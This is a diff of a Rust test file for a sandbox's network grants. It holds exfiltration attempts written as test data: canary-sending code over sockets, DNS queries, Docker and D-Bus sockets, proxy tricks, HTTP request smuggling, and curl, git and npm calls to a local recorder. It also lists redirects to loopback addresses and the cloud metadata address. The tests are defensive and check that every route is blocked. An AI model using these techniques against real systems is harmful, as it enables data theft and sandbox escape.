@@ -1,109 +1,154 @@
 //! A program with a grant for one origin that tries every way to get a canary to somewhere else.
 
+use serde_json::json;
+
 use super::upstream::Recorder;
-use super::{FETCH, TUNNEL, ended, hello, python, runner};
+use super::{ended, hello, python, ran, runner, runner_in};
+use crate::http::server::{Server, answer};
+use crate::support::{Place, project};
 
-/// What must not arrive.
-const CANARY: &str = "canary-7f3a9c";
+/// The least number of attempts.
+const MIN_ATTEMPTS: usize = 200;
 
-/// Ways that need no proxy: TCP, UDP, IPv6, raw sockets, ICMP, abstract names, other families, DNS.
-const DIRECT: &str = "
-import socket, os, struct, subprocess
-def attempt(how):
-    try: how()
-    except Exception as error: pass
-def tcp(family, to):
-    s = socket.socket(family, socket.SOCK_STREAM); s.settimeout(2); s.connect(to); s.sendall(C)
-def udp(family, to):
-    s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(2); s.sendto(C, to)
-for address in ['127.0.0.1', '192.0.2.1', '10.0.0.1', '169.254.169.254', '255.255.255.255', '224.0.0.1']:
-    attempt(lambda: tcp(socket.AF_INET, (address, PORT)))
-    attempt(lambda: udp(socket.AF_INET, (address, PORT)))
-for address in ['::1', '::ffff:127.0.0.1', '2001:db8::1', 'fe80::1', 'ff02::1']:
-    attempt(lambda: tcp(socket.AF_INET6, (address, PORT)))
-    attempt(lambda: udp(socket.AF_INET6, (address, PORT)))
-for kind, protocol in [(socket.SOCK_RAW, socket.IPPROTO_ICMP), (socket.SOCK_DGRAM, socket.IPPROTO_ICMP),
-                       (socket.SOCK_RAW, socket.IPPROTO_RAW), (socket.SOCK_RAW, socket.IPPROTO_UDP)]:
-    attempt(lambda: socket.socket(socket.AF_INET, kind, protocol).sendto(C, ('127.0.0.1', PORT)))
-attempt(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW).send(C))
-attempt(lambda: socket.socket(40, socket.SOCK_STREAM).connect((2, PORT)))
-def unix():
-    s = socket.socket(socket.AF_UNIX); s.connect('\\0' + NAME); s.sendall(C)
-attempt(unix)
-for path in ['/var/run/docker.sock', '/run/systemd/resolve/io.systemd.Resolve', '/run/dbus/system_bus_socket']:
-    def file():
-        s = socket.socket(socket.AF_UNIX); s.connect(path); s.sendall(C)
-    attempt(file)
-attempt(lambda: socket.getaddrinfo(C.decode() + '.example', 80))
-for server in ['127.0.0.53', '127.0.0.11', '8.8.8.8', '127.0.0.1']:
-    question = b'\\1\\2\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0' + bytes([len(C)]) + C + b'\\7example\\0\\0\\1\\0\\1'
-    attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(question, (server, 53)))
-";
+/// How long all attempts may take, in ms.
+const ATTEMPTS_MS: u32 = 600_000;
 
-/// Ways through the proxy, and of tools with proxies of their own.
-const PROXIED: &str = "
-for target in [f'127.0.0.1:{PORT}', f'localhost:{PORT}', f'[::1]:{PORT}', f'other.example:443', '0:443']:
-    attempt(lambda: tunnel(target).sendall(C))
-attempt(lambda: ask(f'GET http://127.0.0.1:{PORT}/{C.decode()} HTTP/1.1\\r\\nHost: test.example\\r\\n\\r\\n').recv(99))
-attempt(lambda: ask(f'GET http://test.example/ HTTP/1.1\\r\\nHost: 127.0.0.1:{PORT}\\r\\nX: {C.decode()}\\r\\n\\r\\n').recv(99))
-attempt(lambda: ask(f'GET / HTTP/1.1\\r\\nHost: 127.0.0.1:{PORT}\\r\\nX: {C.decode()}\\r\\n\\r\\n').recv(99))
-attempt(lambda: ask(f'POST https://test.example/ HTTP/1.1\\r\\nHost: test.example\\r\\n\\r\\n{C.decode()}').recv(99))
-attempt(lambda: ask(f'CONNECT test.example:443@127.0.0.1:{PORT} HTTP/1.1\\r\\n\\r\\n').recv(99))
-attempt(lambda: ask(f'CONNECT 127.0.0.1:{PORT}#test.example:443 HTTP/1.1\\r\\n\\r\\n').recv(99))
-attempt(lambda: ask(f'CONNECT test.example:443\\r\\nHost: 127.0.0.1:{PORT}\\r\\n\\r\\n').recv(99))
-unverified = ssl._create_unverified_context()
-def other_name(name, host):
-    s = unverified.wrap_socket(tunnel('test.example:443'), server_hostname=name)
-    s.settimeout(5)
-    s.sendall(b'POST /pub/ HTTP/1.1\\r\\nHost: ' + host + b'\\r\\nContent-Length: %d\\r\\n\\r\\n' % len(C) + C)
-    s.recv(99)
-for name, host in [('other.example', b'test.example'), ('test.example', b'other.example'),
-                   ('test.example', f'127.0.0.1:{PORT}'.encode()), ('test.example', b'test.example')]:
-    attempt(lambda: other_name(name, host))
-def smuggle():
-    s = unverified.wrap_socket(tunnel('test.example:443'), server_hostname='test.example')
-    s.settimeout(5)
-    s.sendall(b'GET /pub/a HTTP/1.1\\r\\nHost: test.example\\r\\nContent-Length: 0\\r\\n'
-              b'Transfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nPOST /' + C + b' HTTP/1.1\\r\\nHost: test.example\\r\\n\\r\\n')
-    s.recv(99)
-attempt(smuggle)
-for url in [f'http://127.0.0.1:{PORT}/', f'http://localhost:{PORT}/', f'http://[::1]:{PORT}/',
-            f'https://test.example/private/', 'https://test.example/pub/../' + C.decode(),
-            f'ftp://127.0.0.1:{PORT}/']:
-    fetch(url, None if 'pub' in url else C)
-def run(*command, **variables):
-    subprocess.run(command, timeout=15, capture_output=True, env=dict(os.environ, GIT_TERMINAL_PROMPT='0', **variables))
-c = C.decode()
-own = f'http://127.0.0.1:{PORT}'
-for command in [('git', 'ls-remote', f'https://127.0.0.1:{PORT}/{c}.git'), ('git', 'ls-remote', f'git://127.0.0.1:{PORT}/{c}'),
-                ('git', '-c', f'http.proxy={own}', 'ls-remote', f'https://test.example/{c}.git'),
-                ('git', 'ls-remote', f'ssh://127.0.0.1:{PORT}/{c}'),
-                ('curl', '-sm5', '--noproxy', '*', f'{own}/{c}'), ('curl', '-sm5', '-x', own, f'http://a.example/{c}'),
-                ('curl', '-sm5', '--socks5', f'127.0.0.1:{PORT}', f'http://a.example/{c}'),
-                ('curl', '-sm5', '--resolve', f'test.example:443:127.0.0.1', f'https://test.example:{PORT}/{c}'),
-                ('pip3', 'download', '--no-input', '--extra-index-url', f'{own}/{c}', '--trusted-host', '127.0.0.1', c),
-                ('npm', 'view', '--registry', f'{own}/{c}/', c)]:
-    attempt(lambda: run(*command))
-attempt(lambda: run('curl', '-sm5', f'{own}/{c}', HTTP_PROXY='', http_proxy='', NO_PROXY='*', no_proxy='*'))
-";
+/// Where the redirects of the granted origin lead to; `{port}` is one that records what arrives.
+const REDIRECTS: [&str; 12] = [
+    "http://127.0.0.1:{port}/canary",
+    "http://localhost:{port}/canary",
+    "http://[::1]:{port}/canary",
+    "http://[::ffff:127.0.0.1]:{port}/canary",
+    "http://0:{port}/canary",
+    "http://2130706433:{port}/canary",
+    "//127.0.0.1:{port}/canary",
+    "https://127.0.0.1:{port}/canary",
+    "https://other.example/canary",
+    "http://169.254.169.254/latest/meta-data/",
+    "ftp://127.0.0.1:{port}/canary",
+    "/private/canary",
+];
 
+/// A server of the granted origin, which also redirects.
+fn redirecting(port: u16) -> Server {
+    Server::new(move |head| {
+        let path = head.split(' ').nth(1).unwrap_or_default();
+        let number = path.strip_prefix("/pub/r/").and_then(|number| number.parse::<usize>().ok());
+        match number.and_then(|number| REDIRECTS.get(number)) {
+            Some(to) => {
+                let to = to.replace("{port}", &port.to_string());
+                answer(302, &format!("Location: {to}\r\n"), b"")
+            }
+            None => answer(200, "", b"hello"),
+        }
+    })
+}
+
+/// Every way of `attempts.py`: what a program sees is a refusal, nothing arrives at the sockets that
+/// record, and only allowed requests arrive at the granted origin.
 #[test]
 fn no_canary_arrives_anywhere() {
-    let (server, recorder) = (hello(), Recorder::new());
-    let trial = runner(&ended(&server, "methods = ['GET']\npaths = ['/pub/']"));
-    let script = format!(
-        "PORT = {}\nNAME = '{}'\nC = b'{CANARY}'\n{FETCH}{TUNNEL}{DIRECT}{PROXIED}\
-         fetch('https://test.example/pub/end')\nprint('tried all')\n",
-        recorder.port, recorder.name
+    let (recorder, passed) = (Recorder::new(), Recorder::new());
+    let server = redirecting(recorder.port);
+    let entries = format!(
+        "{}[[grants.runner.network]]\nprograms = ['python3']\norigins = [{{ origin = \
+         'https://pass.example', address = '127.0.0.1:{}' }}]\n",
+        ended(&server, "methods = ['GET', 'HEAD']\npaths = ['/pub/']"),
+        passed.port
     );
-    let (stdout, stderr) = python(&trial, &script);
-    assert!(stdout.ends_with("200 hello\ntried all\n"), "{stdout}{stderr}");
-    let heard = recorder.heard();
-    assert!(heard.is_empty(), "{}", String::from_utf8_lossy(&heard));
+    let place = Place::new();
+    let file = place.workspace().join("socket");
+    recorder.listen_at(&file);
+    let trial = runner_in(place, &entries);
+    let script = format!(
+        "PORT = {}\nNAME = '{}'\nFILE = '{}'\nREDIRECTS = {}\n{}",
+        recorder.port,
+        recorder.name,
+        file.display(),
+        REDIRECTS.len(),
+        include_str!("attempts.py")
+    );
+    let args = json!({
+        "program": "python3", "arguments": ["-"], "stdin": script, "timeout_ms": ATTEMPTS_MS
+    });
+    let output = ran(&trial, args);
+    let stdout = output["stdout"].as_str().unwrap_or_default();
+    let attempts: Vec<Vec<&str>> =
+        stdout.lines().map(|line| line.split('\t').collect()).collect();
+    assert!(attempts.len() >= MIN_ATTEMPTS, "{output}");
+    for attempt in &attempts {
+        assert!(is_refused(attempt), "{attempt:?}");
+    }
+    for recorder in [recorder, passed] {
+        let heard = recorder.heard();
+        assert!(heard.is_empty(), "{}", String::from_utf8_lossy(&heard));
+    }
     let asked = server.asked();
-    assert!(asked.iter().all(|head| !head.contains(CANARY)), "{asked:?}");
-    assert!(asked.iter().all(|head| head.starts_with("GET /pub/")), "{asked:?}");
-    assert!(asked.last().is_some_and(|head| head.starts_with("GET /pub/end ")), "{asked:?}");
+    assert!(asked.iter().all(|head| !head.contains("canary")), "{asked:?}");
+    let is_allowed = |head: &String| head.starts_with("GET /pub/") || head.starts_with("HEAD /pub/");
+    assert!(!asked.is_empty() && asked.iter().all(is_allowed), "{asked:?}");
+    documented(&attempts);
+}
+
+/// Whether what a program saw of an attempt is no success.
+fn is_refused(attempt: &[&str]) -> bool {
+    let &[group, _, seen] = attempt else { return false };
+    let is_ok = seen.contains("HTTP/1.1 2");
+    match group {
+        // The first of two requests may be allowed.
+        "smuggling" => !seen.contains("HTTP/1.1 200 Word, HTTP/1.1 200"),
+        // A datagram may be sent to nobody.
+        "UDP" => true,
+        "names" => seen.starts_with("failed: ") || seen == "rcode 3, 0 answers",
+        "TCP" | "Unix sockets" | "other families" | "raw sockets and ICMP" | "redirects" | "git"
+        | "package managers" | "other programs" => {
+            seen.starts_with("failed: ") || seen == "absent" || seen == "sent"
+        }
+        _ => !is_ok && !seen.contains("sent"),
+    }
+}
+
+/// Checks that the manual has a row for each group, with the number of its attempts.
+fn documented(attempts: &[Vec<&str>]) {
+    let manual = std::fs::read_to_string(project().join("docs/network.md")).unwrap();
+    let mut counts = std::collections::BTreeMap::<&str, usize>::new();
+    for attempt in attempts {
+        *counts.entry(attempt[0]).or_default() += 1;
+    }
+    for (group, count) in counts {
+        let row = format!("| {group} | {count} |");
+        assert!(manual.contains(&row), "docs/network.md has no row that begins with {row}");
+    }
+}
+
+/// The value of a granted variable in seventeen encodings and in all parts of a request.
+#[test]
+fn the_value_of_a_granted_variable_is_not_sent() {
+    let recorder = Recorder::new();
+    let origin = format!("http://localhost:{}", recorder.port);
+    let entries = format!(
+        "[[grants.runner.network]]\nprograms = ['python3']\norigins = [{{ origin = '{origin}', \
+         timeout-ms = 500 }}]\n"
+    );
+    let trial = runner(&entries.replace("[[", "environment = ['GRANTED_TOKEN']\n[["));
+    let script = format!("ORIGIN = '{origin}'\n{}", include_str!("secrets.py"));
+    let output = ran(&trial, json!({"program": "python3", "arguments": ["-"], "stdin": script}));
+    // What the program prints is redacted in plain text: only its other forms are compared.
+    let stdout = output["stdout"].as_str().unwrap_or_default();
+    let heard = String::from_utf8_lossy(&recorder.heard()).into_owned();
+    let lines: Vec<Vec<&str>> = stdout.lines().map(|line| line.split('\t').collect()).collect();
+    let (last, attempts) = lines.split_last().unwrap();
+    assert!(attempts.len() > 90, "{output}");
+    for attempt in attempts {
+        let &[name, text, seen] = attempt.as_slice() else { panic!("{attempt:?}") };
+        assert!(seen == "403" || seen == "502" || seen.starts_with("failed: "), "{attempt:?}");
+        assert!(!heard.contains(text), "{name}: {heard}");
+    }
+    for part in ["a-token", "of-some", "emos-fo", "YS10b2"] {
+        assert!(!heard.contains(part), "{part}: {heard}");
+    }
+    assert_eq!(last[..], ["nothing secret", "a harmless value", "504"]);
+    assert!(heard.contains("x-a: a harmless value\r\n"), "{heard}");
 }
 
 /// What a program has after the run of another: nothing listens any more, and authorities differ.
